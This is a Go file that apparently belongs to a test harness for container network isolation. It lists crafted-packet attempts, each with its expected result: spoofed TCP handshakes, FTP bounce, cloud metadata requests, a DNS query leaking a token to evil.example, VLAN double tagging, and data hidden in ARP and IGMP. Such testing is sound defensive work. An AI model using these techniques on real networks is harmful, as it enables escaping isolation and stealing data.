package attack

import (
	"encoding/binary"
	"hash/crc32"
	"net/netip"

	"golang.org/x/sys/unix"
)

// outside is a packet that the foreign host's kernel sends.
func outside(p packet, content []byte) attempts {
	return attempts{{Kind: "ip", Data: p.bytes(content)}}
}

var replies = []row{
	{name: "a SYN-ACK first", fails: invalid, try: func(x scene) attempts {
		return frames(x.via(x.to(x.evil, 6), tcp(x.eve, x.evil, x.port, 8080, syn|ack, x.text())))
	}},
	{name: "a reset with data", fails: invalid, try: func(x scene) attempts {
		return frames(x.via(x.to(x.evil, 6), tcp(x.eve, x.evil, x.port, 8080, rst, x.text())))
	}},
	{name: "an ACK in the middle of nothing", try: func(x scene) attempts {
		return frames(x.via(x.to(x.evil, 6), tcp(x.eve, x.evil, x.port, 8080, ack|psh, x.text())))
	}},
	{name: "both ends begin at once (simultaneous open)",
		accomplice: func(x scene) attempts {
			return outside(packet{src: x.evil, dst: x.host, proto: 6}, tcp(x.evil, x.host, 8080, x.port, syn, nil))
		},
		try: func(x scene) attempts {
			return frames(x.via(x.to(x.evil, 6), tcp(x.eve, x.evil, x.port, 8080, syn, x.text())))
		}},
	{name: "the other end begins, and is answered from a port that is not published (split handshake)", fails: invalid,
		accomplice: func(x scene) attempts {
			return outside(packet{src: x.evil, dst: x.host, proto: 6}, tcp(x.evil, x.host, 8080, x.port, syn, nil))
		},
		try: func(x scene) attempts {
			return frames(x.via(x.to(x.evil, 6), tcp(x.eve, x.evil, x.port, 8080, syn|ack, x.text())))
		}},
	{name: "FTP: PORT has the listed server connect back", at: attacker, fails: "no helper of connection tracking follows a flow unless a rule says so (Linux 6.0), and mybr has none",
		accomplice: func(x scene) attempts {
			return outside(packet{src: x.evil, dst: x.host, proto: 6}, tcp(x.evil, x.host, 20, x.port, syn, x.text()))
		},
		try: func(x scene) attempts {
			a := x.eve.AsSlice()
			line := "EPRT |2|" + x.eve.String() + "|" + decimal(x.port) + "|\r\n"
			if !x.v6() {
				line = "PORT " + decimal(uint16(a[0])) + "," + decimal(uint16(a[1])) + "," + decimal(uint16(a[2])) + "," + decimal(uint16(a[3])) + "," + decimal(x.port>>8) + "," + decimal(x.port&255) + "\r\n"
			}
			return dial("tcp", x.lan, 21, []byte(line))
		}},
}

// metadata is where clouds tell machines about themselves.
var metadata = netip.MustParseAddr("169.254.169.254")

var inwards = []row{
	{name: "UDP to the gateway's address", at: host, try: func(x scene) attempts { return dial("udp", x.gateway, 90, x.text()) }},
	{name: "TCP to the gateway's address", at: host, try: func(x scene) attempts { return dial("tcp", x.gateway, 90, x.text()) }},
	{name: "UDP to the host's address on the LAN", at: host, try: func(x scene) attempts { return dial("udp", x.host, 90, x.text()) }},
	{name: "TCP to the host's address on the LAN", at: host, try: func(x scene) attempts { return dial("tcp", x.host, 90, x.text()) }},
	{name: "DNS of the gateway", at: host, try: func(x scene) attempts { return dial("udp", x.gateway, 53, question(x.token+".evil.example", 1)) }},
	{name: "UDP to the host's link-local address", only: "IPv6", at: host, try: func(x scene) attempts { return frames(x.bareUDP(x.eve, x.local)) }},
	{name: "the same from a link-local address", only: "IPv6", at: host, try: func(x scene) attempts { return frames(x.bareUDP(x.eveLocal, x.local)) }},
	{name: "UDP to the host's address on another network", at: host, try: func(x scene) attempts { return dial("udp", x.otherGate, 90, x.text()) }},
	{name: "ICMP echo with data, to the gateway", at: host, try: func(x scene) attempts { return frames(x.via(x.to(x.gateway, x.icmpProto()), x.echo(x.gateway, false))) }},
	{name: "a protocol that nobody knows (253), to the gateway", at: host, try: func(x scene) attempts { return frames(x.bare(x.gateway, 253, nil)) }},
	{name: "a SYN-ACK to the host", at: host, try: func(x scene) attempts {
		return frames(x.via(x.to(x.gateway, 6), tcp(x.eve, x.gateway, x.port, 90, syn|ack, x.text())))
	}},
	{name: "UDP in fragments, to the gateway", only: "IPv4", at: host, try: func(x scene) attempts {
		p, whole := x.to(x.gateway, unix.IPPROTO_UDP), x.datagram(x.gateway, 90)
		p.id, p.more = x.port, true
		first := x.via(p, whole[:8])
		p.offset, p.more = 1, false
		return frames(first, x.via(p, whole[8:]))
	}},
	{name: "the network's broadcast", only: "IPv4", at: host, try: func(x scene) attempts {
		p := x.to(x.broadcast, unix.IPPROTO_UDP)
		return frames(frame(everybody, x.eveMAC, p.ethertype(), p.bytes(x.datagram(x.broadcast, 90))))
	}},
	{name: "255.255.255.255", only: "IPv4", at: host, try: func(x scene) attempts {
		p := x.to(netip.MustParseAddr("255.255.255.255"), unix.IPPROTO_UDP)
		return frames(frame(everybody, x.eveMAC, p.ethertype(), p.bytes(x.datagram(p.dst, 90))))
	}},
	{name: "DHCP from 0.0.0.0", only: "IPv4", at: host, try: func(x scene) attempts {
		p := packet{src: netip.IPv4Unspecified(), dst: netip.MustParseAddr("255.255.255.255"), proto: unix.IPPROTO_UDP}
		return frames(frame(everybody, x.eveMAC, p.ethertype(), p.bytes(udp(p.src, p.dst, 68, 67, x.text()))))
	}},
	{name: "all hosts, all nodes (224.0.0.1, ff02::1)", at: host, try: func(x scene) attempts { return x.group("224.0.0.1", "ff02::1", 90) }},
	{name: "mDNS (5353)", at: host, try: func(x scene) attempts { return x.group("224.0.0.251", "ff02::fb", 5353) }},
	{name: "LLMNR (5355)", at: host, try: func(x scene) attempts { return x.group("224.0.0.252", "ff02::1:3", 5355) }},
	{name: "SSDP (1900)", at: host, try: func(x scene) attempts { return x.group("239.255.255.250", "ff02::c", 1900) }},
	{name: "multicast to the LAN", at: evil, fails: "the host routes no multicast", try: func(x scene) attempts { return x.group("239.1.2.3", "ff0e::123", 9000) }},
	{name: "loopback, by the gateway's MAC", at: host, fails: "the kernel takes no packets to loopback addresses from elsewhere (`route_localnet` is 0)", try: func(x scene) attempts {
		to := netip.MustParseAddr("127.0.0.1")
		if x.v6() {
			to = netip.IPv6Loopback()
		}
		return frames(x.via(x.to(to, unix.IPPROTO_UDP), x.datagram(to, 90)))
	}},
	{name: "a cloud's metadata service (169.254.169.254)", only: "IPv4", try: func(x scene) attempts {
		return dial("tcp", metadata, 80, get("/latest/"+x.token, "Host: 169.254.169.254"))
	}},
	{name: "the same, with a listed name", only: "IPv4", may: lan, carried: true, why: byName, try: func(x scene) attempts {
		return dial("tcp", metadata, 80, get("/latest/"+x.token, "Host: site.example"))
	}},
	{name: "a port that another network publishes, by the host's address", at: other, try: func(x scene) attempts { return dial("tcp", x.host, 8080, x.text()) }},
	{name: "the same by the gateway's address, UDP", at: other, try: func(x scene) attempts { return dial("udp", x.gateway, 8080, x.text()) }},
	{name: "a container of another network, by its own address", at: other, fails: "networks are apart, with lists and without", try: func(x scene) attempts { return dial("udp", x.other, 80, x.text()) }},
}

// bareUDP is a datagram to the host on eve's link.
func (x scene) bareUDP(src, dst netip.Addr) []byte {
	return x.via(packet{src: src, dst: dst, proto: unix.IPPROTO_UDP}, udp(src, dst, x.port, 90, x.text()))
}

// always is why some frames pass between containers whatever lists say.
const always = "ARP, neighbour discovery and reports of groups always pass"

var neighbours = []row{
	{name: "what is listed, to show that the attacker can send", at: neighbour, may: neighbour, must: true, why: "it is listed",
		try: func(x scene) attempts {
			return frames(x.beside(x.to(x.neighbour, 6), tcp(x.eve, x.neighbour, x.port, 80, syn, x.text())))
		}},
	{name: "TCP to a port that is not listed", at: neighbour, try: func(x scene) attempts {
		return frames(x.beside(x.to(x.neighbour, 6), tcp(x.eve, x.neighbour, x.port, 81, syn, x.text())))
	}},
	{name: "UDP", at: neighbour, try: func(x scene) attempts { return frames(x.beside(x.to(x.neighbour, 17), x.datagram(x.neighbour, 80))) }},
	{name: "UDP by the hardware address of all", at: neighbour, try: func(x scene) attempts {
		p := x.to(x.neighbour, 17)
		return frames(frame(everybody, x.eveMAC, p.ethertype(), p.bytes(x.datagram(x.neighbour, 80))))
	}},
	{name: "UDP by a hardware address that nobody has", at: neighbour, try: func(x scene) attempts {
		p := x.to(x.neighbour, 17)
		return frames(frame(append(x.neighbourMAC[:5:5], 0x99), x.eveMAC, p.ethertype(), p.bytes(x.datagram(x.neighbour, 80))))
	}},
	{name: "UDP by way of the gateway", at: neighbour, try: func(x scene) attempts { return frames(x.via(x.to(x.neighbour, 17), x.datagram(x.neighbour, 80))) }},
	{name: "the network's broadcast", only: "IPv4", at: neighbour, try: func(x scene) attempts {
		p := x.to(x.broadcast, 17)
		return frames(frame(everybody, x.eveMAC, p.ethertype(), p.bytes(x.datagram(x.broadcast, 80))))
	}},
	{name: "multicast", at: neighbour, try: func(x scene) attempts { return x.group("224.0.0.251", "ff02::fb", 5353) }},
	{name: "ICMP echo with data", at: neighbour, try: func(x scene) attempts {
		return frames(x.beside(x.to(x.neighbour, x.icmpProto()), x.echo(x.neighbour, false)))
	}},
	{name: "an ICMP echo reply without a request", at: neighbour, try: func(x scene) attempts {
		return frames(x.beside(x.to(x.neighbour, x.icmpProto()), x.echo(x.neighbour, true)))
	}},
	{name: "SCTP (INIT)", at: neighbour, try: func(x scene) attempts {
		return frames(x.beside(x.to(x.neighbour, unix.IPPROTO_SCTP), x.sctp()))
	}},
	{name: "a protocol that nobody knows (253)", at: neighbour, try: func(x scene) attempts { return frames(x.beside(x.to(x.neighbour, 253), x.text())) }},
	{name: "UDP in tiny fragments", only: "IPv4", at: neighbour, try: func(x scene) attempts {
		p, whole := x.to(x.neighbour, 17), x.datagram(x.neighbour, 80)
		p.id, p.more = x.port, true
		first := x.beside(p, whole[:8])
		p.offset, p.more = 1, false
		return frames(first, x.beside(p, whole[8:]))
	}},
	{name: "an Ethernet protocol that nobody knows", at: neighbour, only: "IPv4", try: func(x scene) attempts { return frames(frame(x.neighbourMAC, x.eveMAC, 0x88b5, x.text())) }},
	{name: "PPPoE around IP", at: neighbour, try: func(x scene) attempts {
		p := x.to(x.neighbour, 17)
		inner := p.bytes(x.datagram(x.neighbour, 80))
		kind := []byte{0, 0x21}
		if x.v6() {
			kind = []byte{0, 0x57}
		}
		session := binary.BigEndian.AppendUint16([]byte{0x11, 0, 0, 1}, uint16(2+len(inner)))
		return frames(frame(x.neighbourMAC, x.eveMAC, 0x8864, append(append(session, kind...), inner...)))
	}},
	{name: "a tag of 802.1Q around IP", at: neighbour, try: func(x scene) attempts {
		p := x.to(x.neighbour, 17)
		return frames(frame(x.neighbourMAC, x.eveMAC, 0x8100, binary.BigEndian.AppendUint16([]byte{0, 7}, p.ethertype()), p.bytes(x.datagram(x.neighbour, 80))))
	}},
	{name: "two tags around IP", at: neighbour, try: func(x scene) attempts {
		p := x.to(x.neighbour, 17)
		return frames(frame(x.neighbourMAC, x.eveMAC, 0x88a8, []byte{0, 7, 0x81, 0}, binary.BigEndian.AppendUint16([]byte{0, 8}, p.ethertype()), p.bytes(x.datagram(x.neighbour, 80))))
	}},
	{name: "TCP that begins nothing (ACK with data)", at: neighbour, may: neighbour, why: "segments with ACK may be answers; they begin no connection, but a neighbour who listens to all frames reads them",
		try: func(x scene) attempts {
			return frames(x.beside(x.to(x.neighbour, 6), tcp(x.eve, x.neighbour, x.port, 81, ack|psh, x.text())))
		}},
	{name: "data behind a report of groups (IGMP)", only: "IPv4", at: neighbour, may: neighbour, why: always, try: func(x scene) attempts {
		g := netip.MustParseAddr("224.0.0.22")
		b := append([]byte{0x22, 0, 0, 0, 0, 0, 0, 0}, x.text()...)
		binary.BigEndian.PutUint16(b[2:], sum(b))
		return frames(frame(station(g), x.eveMAC, unix.ETH_P_IP, x.to(g, unix.IPPROTO_IGMP).bytes(b)))
	}},
	{name: "data behind an honest question of ARP", only: "IPv4", at: neighbour, may: neighbour, why: always, try: func(x scene) attempts {
		return frames(frame(x.neighbourMAC, x.eveMAC, unix.ETH_P_ARP, arp(1, x.eveMAC, x.eve, make([]byte, 6), x.neighbour, x.token)))
	}},
	{name: "data in an honest neighbour advertisement", only: "IPv6", at: neighbour, may: neighbour, why: always, try: func(x scene) attempts {
		return frames(frame(x.neighbourMAC, x.eveMAC, unix.ETH_P_IPV6, x.advertise(x.eve, x.neighbour)))
	}},
}

// sctp is an INIT (RFC 9260, 3.3.2) with the token in a parameter to be passed over.
func (x scene) sctp() []byte {
	data := x.text()
	b := binary.BigEndian.AppendUint16(nil, x.port)
	b = binary.BigEndian.AppendUint16(b, 80)
	b = append(b, 0, 0, 0, 0, 0, 0, 0, 0, 1, 0)
	b = binary.BigEndian.AppendUint16(b, uint16(24+len(data)))
	b = append(b, 0, 0, 0, 1, 0, 0, 16, 0, 0, 1, 0, 1, 0, 0, 0, 1, 0x80, 0x99)
	b = append(binary.BigEndian.AppendUint16(b, uint16(4+len(data))), data...)
	binary.LittleEndian.PutUint32(b[8:], crc32.Checksum(b, crc32.MakeTable(crc32.Castagnoli)))
	return b
}
